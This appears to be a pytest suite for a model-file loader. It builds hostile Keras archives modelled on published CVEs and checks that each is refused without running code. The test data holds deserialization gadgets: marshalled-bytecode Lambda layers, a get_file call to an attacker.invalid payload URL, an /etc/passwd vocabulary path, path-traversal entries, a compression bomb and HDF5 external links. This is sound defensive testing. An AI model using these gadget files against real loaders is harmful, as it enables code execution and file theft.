"""A corpus of hostile Keras files, one per published Keras loading vulnerability (and the like):
each is refused with an error naming the entry, nothing it names is imported or run, and
nothing is written. The files are made by hand (zipfile, json, h5py); Keras is not needed."""

from __future__ import annotations

import base64
import io
import json
import marshal
import sys
import zipfile

import numpy as np
import pytest

from engram.nn import ModelFileError, Sequential
from engram.nn.layers import Dense
from engram.nn.models import load_model
from engram.nn.saving import architecture, keras_format
from engram.nn.saving.archive import Limits, read_zip

h5py = pytest.importorskip("h5py")

PAYLOAD = "engram_hostile_payload"


@pytest.fixture
def trap(tmp_path, monkeypatch):
    """An importable module that writes a sentinel file if it is imported or any of it runs."""
    sentinel = tmp_path / "PWNED"
    (tmp_path / f"{PAYLOAD}.py").write_text(
        "import pathlib\n"
        f"pathlib.Path({str(sentinel)!r}).write_text('imported')\n"
        "def run(*a, **k):\n"
        f"    pathlib.Path({str(sentinel)!r}).write_text('ran')\n"
        "class Evil:\n"
        "    def __init__(self, *a, **k):\n"
        "        run()\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    sys.modules.pop(PAYLOAD, None)
    return sentinel


def good_model():
    return Sequential([Dense(3, activation="relu", input_dim=4), Dense(2)], name="victim")


def good_entries():
    """The three entries of a valid engram-written .keras file."""
    buffer = io.BytesIO()
    good = good_model()
    buffer = architecture.keras_config(good), keras_format._weights_h5(good, False)
    return buffer


def write_keras(path, config=None, weights=None, extra=(), metadata=None):
    base_config, base_weights = good_entries()
    entries = {
        "metadata.json": json.dumps(metadata or {"keras_version": "3.15.1"}).encode(),
        "config.json": json.dumps(config if config is not None else base_config).encode(),
        "model.weights.h5": weights if weights is not None else base_weights,
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        for name, data in extra:
            archive.writestr(name, data)
    return path


def with_layer(entry, index=1):
    """The good config with ``entry`` inserted as a layer."""
    config, _ = good_entries()
    config["config"]["layers"].insert(index, entry)
    return config


def assert_refused(path, trap, match, tmp_path):
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(ModelFileError, match=match):
        load_model(path)
    assert not trap.exists(), "the hostile file ran code"
    assert PAYLOAD not in sys.modules, "the hostile file imported its module"
    assert sorted(p.name for p in tmp_path.iterdir()) == before, "loading wrote a file"


def count_refused_random_values(tmp_path, config, weights, values, seed, tries):
    """Write ``tries`` .keras files, each ``config`` with one of ``values`` put at a random place
    (any key or item, nested dicts and lists included) beside ``weights``: each must load or raise
    ModelFileError (any other exception fails the test). Returns how many were refused."""
    import copy

    places = []

    def walk(obj, prefix=()):
        for key, value in obj.items() if isinstance(obj, dict) else enumerate(obj):
            places.append((*prefix, key))
            if isinstance(value, (dict, list)):
                walk(value, (*prefix, key))

    walk(config)
    rng = np.random.default_rng(seed)
    refused = 0
    for _ in range(tries):
        changed = copy.deepcopy(config)
        place = places[int(rng.integers(len(places)))]
        target = changed
        for key in place[:-1]:
            target = target[key]
        target[place[-1]] = values[int(rng.integers(len(values)))]
        try:
            load_model(write_keras(tmp_path / "changed.keras", changed, weights))
        except ModelFileError:
            refused += 1
    return refused


def test_the_good_file_loads(tmp_path, trap):
    model = load_model(write_keras(tmp_path / "good.keras"))
    assert [type(layer).__name__ for layer in model.layers] == ["Dense", "Dense"]
    assert not trap.exists()


# -------------------------------------------------------------- config.json: code and imports
def test_cve_2024_3660_lambda_with_marshalled_bytecode(tmp_path, trap):
    code = base64.b64encode(marshal.dumps(compile("print('x')", "<x>", "exec"))).decode()
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": code}},
        },
        "registered_name": None,
    }
    path = write_keras(tmp_path / "m.keras", with_layer(lam))
    assert_refused(path, trap, r"layer 1 is the class keras\.layers\.Lambda.*Python code", tmp_path)


def test_cve_2025_1550_arbitrary_module_as_a_layer(tmp_path, trap):
    evil = {"module": PAYLOAD, "class_name": "Evil", "config": {}, "registered_name": None}
    path = write_keras(tmp_path / "m.keras", with_layer(evil))
    assert_refused(path, trap, rf"layer 1 is the class {PAYLOAD}\.Evil, not on engram", tmp_path)


def test_cve_2025_1550_function_as_an_activation(tmp_path, trap):
    config, _ = good_entries()
    config["config"]["layers"][1]["config"]["activation"] = {
        "module": PAYLOAD,
        "class_name": "function",
        "config": "run",
        "registered_name": "function",
    }
    path = write_keras(tmp_path / "m.keras", config)
    assert_refused(path, trap, r"layer 1\.activation is .*functions and custom objects", tmp_path)


def test_cve_2025_8747_get_file_gadget_downloads_nothing(tmp_path, trap):
    config, _ = good_entries()
    config["config"]["layers"][1]["config"]["kernel_initializer"] = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "function",
        "args": {"origin": "https://attacker.invalid/payload.py", "cache_dir": str(tmp_path)},
    }
    path = write_keras(tmp_path / "m.keras", config)
    assert_refused(path, trap, r"kernel_initializer is keras\.utils\.function", tmp_path)


def test_cve_2025_9906_enable_unsafe_deserialization_then_lambda(tmp_path, trap):
    gadget = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {}, "registered_name": None}
    config = with_layer(lam)
    config["config"]["layers"].insert(1, gadget)
    path = write_keras(tmp_path / "m.keras", config)
    match = r"layer 1 is keras\.config\.function with config 'enable_unsafe_deserialization'"
    assert_refused(path, trap, match, tmp_path)


def test_cve_2026_1462_tfsmlayer_loads_no_savedmodel(tmp_path, trap):
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"filepath": str(tmp_path / "attacker_savedmodel"), "call_endpoint": "serve"},
        "registered_name": None,
    }
    path = write_keras(tmp_path / "m.keras", with_layer(tfsm))
    assert_refused(path, trap, r"TFSMLayer.*SavedModel", tmp_path)


def test_custom_registered_object_is_refused(tmp_path, trap):
    config, _ = good_entries()
    config["config"]["layers"][1]["registered_name"] = f"{PAYLOAD}>Evil"
    path = write_keras(tmp_path / "m.keras", config)
    assert_refused(path, trap, r"registered \(custom\) object", tmp_path)


def test_vocabulary_file_layers_read_no_local_file(tmp_path, trap):
    """Keras's StringLookup/TextVectorization read a vocabulary path from the config (an
    arbitrary local file read); they are not on the allowlist."""
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd"},
        "registered_name": None,
    }
    path = write_keras(tmp_path / "m.keras", with_layer(lookup))
    assert_refused(path, trap, r"StringLookup, not on engram's allowlist", tmp_path)


def test_functional_graph_with_function_nodes_is_refused(tmp_path, trap):
    config = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [{"module": PAYLOAD, "class_name": "function", "config": "run", "name": "f"}]
        },
        "registered_name": None,
    }
    path = write_keras(tmp_path / "m.keras", config)
    assert_refused(path, trap, r"layers\[0\].*function, not a class.*allowlist", tmp_path)


def test_unknown_option_and_optimizer_module_are_refused(tmp_path, trap):
    config, _ = good_entries()
    config["config"]["layers"][1]["config"]["kernel_regularizer"] = {
        "module": PAYLOAD,
        "class_name": "L2",
        "config": {"l2": 0.1},
    }
    assert_refused(
        write_keras(tmp_path / "a.keras", config),
        trap,
        r"kernel_regularizer is .*L2, not a regularizer engram has",
        tmp_path,
    )
    config, _ = good_entries()
    config["compile_config"] = {
        "optimizer": {"module": PAYLOAD, "class_name": "Adam", "config": {}},
        "loss": "mse",
    }
    assert_refused(write_keras(tmp_path / "b.keras", config), trap, rf"{PAYLOAD}\.Adam", tmp_path)


def metric_entry(class_name="Precision", module="keras.metrics", **config):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


@pytest.mark.parametrize(
    ("metrics", "match"),
    [
        ([metric_entry("Evil", PAYLOAD)], rf"metrics\[0\] is {PAYLOAD}\.Evil, not a metric"),
        (["acc", metric_entry("F1Score")], r"metrics\[1\] is keras.metrics.F1Score, not a metric"),
        (
            [{**metric_entry(), "registered_name": f"{PAYLOAD}>Evil"}],
            r"registered \(custom\) object",
        ),
        ([metric_entry("Precision", run=1)], r"Precision\) has option 'run', unknown to engram"),
        (
            [metric_entry("Precision", thresholds={"module": PAYLOAD, "class_name": "run"})],
            r"thresholds is not a plain value",
        ),
        ([metric_entry("AUC", num_thresholds=10**12)], r"over 100000 thresholds"),
        ([metric_entry("AUC", thresholds=[0.5] * 200_000)], r"over 100000 thresholds"),
        ({"dense_1": [metric_entry("Evil", PAYLOAD)]}, rf"metrics.dense_1\[0\] is {PAYLOAD}"),
        ([[metric_entry("Evil", PAYLOAD)]], rf"metrics\[0\]\[0\] is {PAYLOAD}"),
        (7, r"metrics 7 is not a list of metrics"),
        ([{"module": "keras.metrics", "class_name": "AUC", "config": "run"}], r"function"),
    ],
    ids=[
        "evil-module",
        "unknown-class",
        "custom-registered",
        "unknown-option",
        "object-as-option",
        "huge-auc",
        "huge-threshold-list",
        "per-output-dict",
        "per-output-list",
        "not-a-list",
        "function-entry",
    ],
)
def test_hostile_metric_entries_in_the_compile_config_are_refused(tmp_path, trap, metrics, match):
    config, _ = good_entries()
    config["compile_config"] = {
        "optimizer": architecture.keras_config(_compiled())["compile_config"]["optimizer"],
        "loss": "mse",
        "metrics": metrics,
    }
    assert_refused(write_keras(tmp_path / "m.keras", config), trap, match, tmp_path)


def _compiled():
    model = good_model()
    model.compile("adam", "mse")
    return model


def test_cve_2025_9905_legacy_h5_model_is_not_read_as_a_model(tmp_path, trap):
    """Keras ignored safe_mode for legacy .h5 model files (a Lambda in the model_config attr)."""
    lam = {"class_name": "Lambda", "config": {"function": ["run", None, None]}}
    for name in ("model.h5", "model.keras"):
        path = tmp_path / name
        with h5py.File(path, "w") as f:
            f.attrs["model_config"] = json.dumps(
                {"class_name": "Sequential", "config": {"layers": [lam]}}
            )
        assert_refused(path, trap, r"has a bad header|not a valid zip|not an engram", tmp_path)


# ------------------------------------------------------------------------- the archive
def test_path_traversal_and_absolute_names_write_nothing(tmp_path, trap):
    for bad in ("../escaped.txt", "/tmp/engram_abs.txt", "a/../../escaped.txt", "C:/x.txt"):
        path = write_keras(tmp_path / "m.keras", extra=[(bad, b"owned")])
        assert_refused(path, trap, "Refused", tmp_path)
    assert not (tmp_path.parent / "escaped.txt").exists()


def test_unexpected_entries_and_too_many_entries(tmp_path, trap):
    path = write_keras(tmp_path / "m.keras", extra=[("assets/run.py", b"import os")])
    assert_refused(path, trap, r"unexpected archive entry 'assets/run\.py'", tmp_path)
    extra = [(f"x{i}", b"") for i in range(20)]
    path = write_keras(tmp_path / "m.keras", extra=extra)
    assert_refused(path, trap, r"too many entries", tmp_path)


def test_compression_bomb_is_refused_before_inflating(tmp_path, trap):
    path = tmp_path / "bomb.keras"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", b"{}")
        archive.writestr("config.json", b" " * 20_000_000)
        archive.writestr("model.weights.h5", b"")
    assert path.stat().st_size < 100_000
    assert_refused(path, trap, r"'config\.json' inflates .*compression bomb", tmp_path)


def test_oversized_entry_and_total_limits():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", b"x" * 1000)
    data = buffer.getvalue()
    with pytest.raises(ModelFileError, match="over the 100-byte limit"):
        read_zip(data, "m.keras", {"config.json"}, Limits(max_entry_bytes=100))
    with pytest.raises(ModelFileError, match="in all, over"):
        read_zip(data, "m.keras", {"config.json"}, Limits(max_total_bytes=500))
    assert read_zip(data, "m.keras", {"config.json"}) == {"config.json": b"x" * 1000}


def test_duplicate_entries_are_refused(tmp_path, trap):
    path = write_keras(tmp_path / "m.keras")
    with pytest.warns(UserWarning), zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", b"{}")
    assert_refused(path, trap, r"appears twice", tmp_path)


# ------------------------------------------------------------------------ the HDF5 weights
def weights_file(build):
    """The good model's weights file, changed by ``build(f)``."""
    _, good = good_entries()
    buffer = io.BytesIO(good)
    with h5py.File(buffer, "a") as f:
        build(f)
    return buffer.getvalue()


def test_external_link_to_another_file_is_not_followed(tmp_path, trap):
    secret = tmp_path / "secret.h5"
    with h5py.File(secret, "w") as f:
        f["data"] = np.ones((4, 3), np.float32)

    def build(f):
        del f["layers/dense/vars/0"]
        f["layers/dense/vars/0"] = h5py.ExternalLink(str(secret), "data")

    path = write_keras(tmp_path / "m.keras", weights=weights_file(build))
    assert_refused(path, trap, r"'layers/dense/vars/0' is a ExternalLink", tmp_path)


def test_soft_link_is_refused(tmp_path, trap):
    def build(f):
        del f["layers/dense/vars/0"]
        f["layers/dense/vars/0"] = h5py.SoftLink("/layers/dense_1/vars/0")

    path = write_keras(tmp_path / "m.keras", weights=weights_file(build))
    assert_refused(path, trap, r"is a SoftLink", tmp_path)


def test_external_storage_and_virtual_datasets_are_refused(tmp_path, trap):
    raw = tmp_path / "raw.bin"
    raw.write_bytes(np.ones(12, np.float32).tobytes())

    def external(f):
        del f["layers/dense/vars/0"]
        f.create_dataset("layers/dense/vars/0", (4, 3), "<f4", external=[(str(raw), 0, 48)])

    path = write_keras(tmp_path / "m.keras", weights=weights_file(external))
    assert_refused(path, trap, r"external file", tmp_path)

    def virtual(f):
        del f["layers/dense/vars/0"]
        layout = h5py.VirtualLayout((4, 3), "<f4")
        layout[:] = h5py.VirtualSource(str(tmp_path / "other.h5"), "data", shape=(4, 3))
        f.create_virtual_dataset("layers/dense/vars/0", layout)

    path = write_keras(tmp_path / "m.keras", weights=weights_file(virtual))
    assert_refused(path, trap, r"virtual dataset", tmp_path)


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (lambda f: f.__setitem__("layers/dense/vars/9", np.zeros(3, np.float32)), "does not have"),
        (lambda f: f.__delitem__("layers/dense/vars/1"), "lacks|larger than the arrays left"),
        (
            lambda f: (
                f.__delitem__("layers/dense/vars/0"),
                f.__setitem__("layers/dense/vars/0", np.zeros((400, 3), np.float32)),
            ),
            r"shape \(400, 3\).*needs shape \(4, 3\)",
        ),
        (
            lambda f: (
                f.__delitem__("layers/dense/vars/0"),
                f.__setitem__("layers/dense/vars/0", np.zeros((4, 3), np.float64)),
            ),
            r"dtype float64.*dtype float32",
        ),
    ],
)
def test_every_dataset_is_checked_against_the_config(tmp_path, trap, change, match):
    path = write_keras(tmp_path / "m.keras", weights=weights_file(change))
    assert_refused(path, trap, match, tmp_path)


def test_plugin_filter_is_refused_before_reading(tmp_path, trap):
    _, good = good_entries()
    # a dataset whose filter pipeline names an unregistered plugin id (HDF5 would search
    # HDF5_PLUGIN_PATH for a shared library to load when the data are read)
    buffer = io.BytesIO(good)
    with h5py.File(buffer, "a") as f:
        del f["layers/dense/vars/0"]
        dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        dcpl.set_chunk((4, 3))
        dcpl.set_filter(32123, h5py.h5z.FLAG_OPTIONAL)
        space = h5py.h5s.create_simple((4, 3))
        h5py.h5d.create(f["layers/dense/vars"].id, b"0", h5py.h5t.IEEE_F32LE, space, dcpl)
    path = write_keras(tmp_path / "m.keras", weights=buffer.getvalue())
    assert_refused(path, trap, r"filter\(s\) \[32123\]", tmp_path)


def test_not_hdf5_and_bad_json(tmp_path, trap):
    assert_refused(
        write_keras(tmp_path / "a.keras", weights=b"\x80pickle"), trap, "not an HDF5", tmp_path
    )
    path = tmp_path / "b.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", b'{"keras_version": "3.15.1"}')
        archive.writestr("config.json", b"[" * 100_000)
        archive.writestr("model.weights.h5", b"")
    assert_refused(path, trap, r"config\.json is not valid JSON", tmp_path)


def test_the_trap_springs_when_its_module_is_imported(trap):
    """The check above could fail: importing the payload module writes the sentinel."""
    import importlib

    importlib.import_module(PAYLOAD)
    assert trap.read_text() == "imported"
    sys.modules.pop(PAYLOAD)


def test_damaged_files_are_refused_with_model_file_error(tmp_path):
    """Random byte flips and truncations: each file loads or raises ModelFileError, never
    another exception (HDF5's own errors on a damaged file included)."""
    from engram.nn.layers import LSTM

    model = Sequential([LSTM(3, input_shape=(4, 2)), Dense(2)])
    model.build()
    model.compile("adam", "mse")
    model.save(tmp_path / "m.keras")
    with zipfile.ZipFile(tmp_path / "m.keras") as archive:
        entries = {n: archive.read(n) for n in archive.namelist()}
    rng = np.random.default_rng(0)
    refused = 0
    for trial in range(120):
        key = "config.json" if trial % 3 == 1 else "model.weights.h5"
        data = bytearray(entries[key])
        for _ in range(int(rng.integers(1, 8))):
            data[int(rng.integers(0, len(data)))] = int(rng.integers(0, 256))
        if trial % 7 == 0:
            data = data[: int(rng.integers(0, len(data)))]
        path = tmp_path / "damaged.keras"
        with zipfile.ZipFile(path, "w") as archive:
            for name, value in {**entries, key: bytes(data)}.items():
                archive.writestr(name, value)
        try:
            load_model(path)
        except ModelFileError:
            refused += 1
    assert refused > 30


@pytest.mark.parametrize("units", [10**12, 10**5])
def test_a_config_asking_for_huge_weights_allocates_nothing(tmp_path, trap, units):
    """units=10**12 would need terabytes; 10**5 a 400 KB kernel, larger than any array in the
    file. Both are refused while the model is built, before a large array is allocated."""
    config, _ = good_entries()
    config["config"]["layers"][1]["config"]["units"] = units
    path = write_keras(tmp_path / "m.keras", config)
    assert_refused(path, trap, r"needs a weight of shape \(4, \d+\), larger than", tmp_path)


def test_initializers_are_the_configs_after_loading(tmp_path):
    model = load_model(write_keras(tmp_path / "m.keras"))
    assert model.layers[0].kernel_initializer.name == "glorot_uniform"
    assert model.layers[0].bias_initializer.name == "zeros"


def test_configs_with_values_of_the_wrong_type_are_refused(tmp_path):
    """Random values (None, lists, dicts, huge ints ...) put anywhere in a good config: each
    file loads or raises ModelFileError, never another exception and never a huge array."""
    import engram.nn.layers as L

    model = Sequential(
        [
            L.Input((6, 5, 2)),
            L.TimeDistributed(L.Dense(3)),
            L.Reshape((6, 15)),
            L.LSTM(3, return_sequences=True),
            L.GRU(2),
            L.BatchNormalization(),
            L.Dense(2),
        ]
    )
    model.build()
    model.compile("adam", "mse", metrics=["mae"])
    model.save(tmp_path / "m.keras")
    with zipfile.ZipFile(tmp_path / "m.keras") as archive:
        config = json.loads(archive.read("config.json"))
        weights = archive.read("model.weights.h5")
    values = [None, 0, -1, 1.5, "x", [], {}, [1, 2], {"a": 1}, True, [None, 3], 10**12]
    assert count_refused_random_values(tmp_path, config, weights, values, 1, 150) > 50


# ------------------------------------------------------------------ functional models
def functional_entries():
    """A good functional model's config and weights: two inputs, a shared layer, a merge and
    a nested functional model."""
    from engram.nn import Input, Model
    from engram.nn.layers import Add

    a, b = Input((4,), name="a"), Input((4,), name="b")
    shared = Dense(4, name="shared")
    inner_in = Input((4,), name="inner_in")
    inner = Model(inner_in, Dense(2, name="inner_dense")(inner_in), name="inner")
    out = inner(Add(name="add")([shared(a), shared(b)]))
    model = Model([a, b], out, name="victim", seed=0)
    return architecture.keras_config(model), keras_format._weights_h5(model, False)


def functional_layer(config, layer_name):
    return next(e for e in config["config"]["layers"] if e["name"] == layer_name)


def history(config, layer_name, node=0, arg=0):
    """The keras_history list of one argument of one call (a merge layer's list, or the one)."""
    args = functional_layer(config, layer_name)["inbound_nodes"][node]["args"][0]
    tensor = args[arg] if isinstance(args, list) else args
    return tensor["config"]["keras_history"]


def _call_again(config, layer_name, reads, output_node=None):
    """Call ``layer_name`` a second time on the tensor ``reads``; with ``output_node``, make
    that node of it the model's output."""
    entry = functional_layer(config, layer_name)
    tensor = {"class_name": "__keras_tensor__", "config": {"keras_history": reads}}
    entry["inbound_nodes"].append({"args": [tensor], "kwargs": {}})
    if output_node is not None:
        config["config"]["output_layers"] = [layer_name, output_node, 0]


def write_functional(tmp_path, config):
    _, weights = functional_entries()
    return write_keras(tmp_path / "f.keras", config, weights)


def test_the_good_functional_file_loads(tmp_path, trap):
    model = load_model(write_functional(tmp_path, functional_entries()[0]))
    assert [layer.name for layer in model.layers] == ["a", "b", "shared", "add", "inner"]
    assert not trap.exists()


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (
            lambda c: history(c, "shared").__setitem__(0, "add"),
            r"'shared' node 0 depends on itself",
        ),
        (lambda c: history(c, "add", arg=1).__setitem__(0, "nowhere"), r"layer 'nowhere'.*lacks"),
        (lambda c: history(c, "add").__setitem__(1, 10**18), r"reads node 1000000000000000000"),
        (lambda c: history(c, "add").__setitem__(2, 7), r"reads output 7 of 'shared'"),
        (lambda c: history(c, "inner").__setitem__(1, -1), r"reads node -1 of 'add'"),
        (lambda c: c["config"]["output_layers"].__setitem__(0, "ghost"), r"'ghost'.*lacks"),
        (lambda c: c["config"]["output_layers"].__setitem__(1, 0), r"node -1 of 'inner'"),
        (lambda c: c["config"]["input_layers"][1].__setitem__(0, "shared"), r"not an InputLayer"),
        (lambda c: history(c, "shared").clear(), r"not \[layer name, node index, tensor index\]"),
        (
            lambda c: functional_layer(c, "add")["inbound_nodes"][0]["kwargs"].update(
                {"initial_state": {"module": PAYLOAD, "class_name": "function", "config": "run"}}
            ),
            r"passes initial_state=.*does not implement",
        ),
        (
            lambda c: functional_layer(c, "add")["inbound_nodes"][0]["args"][0].__setitem__(
                0, {"module": PAYLOAD, "class_name": "function", "config": "run"}
            ),
            r"not a tensor",
        ),
        (
            lambda c: history(c, "shared", node=1).__setitem__(0, "add"),
            r"'(shared|add)' node [01] depends on itself",
        ),
        (lambda c: c["config"]["layers"].append(c["config"]["layers"][2]), r"two layers named"),
        (lambda c: c["config"]["output_layers"].__setitem__(1, 2), r"node 1 of 'inner'.* 1 node"),
        (lambda c: _call_again(c, "inner", ["inner", 1, 0]), r"'inner' node 1 depends on itself"),
        (lambda c: _call_again(c, "inner", ["add", 0, 0], 5), r"node 4 of 'inner'.* 2 node"),
    ],
    ids=[
        "cycle",
        "missing-layer",
        "huge-node-index",
        "tensor-index",
        "negative-node-index",
        "missing-output",
        "nested-output-node",
        "input-not-an-input-layer",
        "bad-history",
        "code-in-kwargs",
        "function-as-argument",
        "cycle-through-shared-layer",
        "duplicate-name",
        "nested-model-node-out-of-range",
        "nested-model-reads-its-own-call",
        "shared-model-node-index-out-of-range",
    ],
)
def test_hostile_functional_wiring_is_refused(tmp_path, trap, change, match):
    config, _ = functional_entries()
    change(config)
    assert_refused(write_functional(tmp_path, config), trap, match, tmp_path)


def test_lambda_hidden_inside_a_nested_model_is_refused(tmp_path, trap):
    code = base64.b64encode(marshal.dumps(compile("print('x')", "<x>", "exec"))).decode()
    config, _ = functional_entries()
    dense = functional_layer(functional_layer(config, "inner"), "inner_dense")
    dense.update(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "inner_dense",
                "function": {"class_name": "__lambda__", "config": {"code": code}},
            },
        }
    )
    path = write_functional(tmp_path, config)
    assert_refused(path, trap, r"'inner'.*'inner_dense'.*Lambda.*Python code", tmp_path)


def test_evil_module_inside_a_nested_model_and_deep_nesting_are_refused(tmp_path, trap):
    config, _ = functional_entries()
    inner = functional_layer(config, "inner")
    inner["module"] = PAYLOAD
    assert_refused(write_functional(tmp_path, config), trap, rf"{PAYLOAD}\.Functional", tmp_path)

    import copy

    config, _ = functional_entries()
    inner = functional_layer(config, "inner")
    entry = copy.deepcopy(inner)
    for _ in range(20):  # the inner model's Dense replaced by the inner model, 20 deep
        wrapper = copy.deepcopy(inner)
        layers = wrapper["config"]["layers"]
        layers[1] = {**entry, "name": "inner_dense", "inbound_nodes": layers[1]["inbound_nodes"]}
        entry = wrapper
    inner["config"] = entry["config"]
    assert_refused(write_functional(tmp_path, config), trap, r"more than 16 deep", tmp_path)


def test_functional_configs_with_values_of_the_wrong_type_are_refused(tmp_path):
    """Random values put anywhere in a good functional config: each file loads or raises
    ModelFileError, never another exception."""
    config, weights = functional_entries()
    values = [None, 0, -1, 1.5, "x", [], {}, [1, 2], {"a": 1}, True, ["add", 0, 0], 10**12]
    assert count_refused_random_values(tmp_path, config, weights, values, 2, 120) > 40


def test_weights_of_one_layer_under_another_layers_path_are_refused(tmp_path):
    """Two Dense layers of one shape with their weights groups' names swapped: refused, not
    loaded with the weights exchanged."""
    from engram.nn import Input, Model

    x = Input((3,), name="x")
    model = Model(x, Dense(3, name="second")(Dense(3, name="first")(x)), name="m", seed=0)
    config = architecture.keras_config(model)
    buffer = io.BytesIO(keras_format._weights_h5(model, False))
    with h5py.File(buffer, "a") as f:
        f["layers/dense/vars"].attrs["name"] = "second"
        f["layers/dense_1/vars"].attrs["name"] = "first"
    path = write_keras(tmp_path / "m.keras", config, buffer.getvalue())
    with pytest.raises(
        ModelFileError, match=r"'layers/dense/vars' are those of the layer 'second'"
    ):
        load_model(path)


def test_lambda_inside_a_nested_sequential_is_refused(tmp_path, trap):
    """The same allowlist reads a Sequential model nested in a functional one."""
    from engram.nn import Input, Model

    head = Sequential([Dense(2, name="head_dense")], name="head")
    head.build((None, 3))
    x = Input((3,), name="x")
    model = Model(x, head(Dense(3, name="first")(x)), name="m", seed=0)
    config = architecture.keras_config(model)
    weights = keras_format._weights_h5(model, False)
    nested = functional_layer(config, "head")
    nested["config"]["layers"][1] = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "head_dense", "function": {"class_name": "__lambda__"}},
        "registered_name": None,
    }
    path = write_keras(tmp_path / "m.keras", config, weights)
    assert_refused(
        path, trap, r"'head'\)\.layers\[1\] is the class keras\.layers\.Lambda", tmp_path
    )
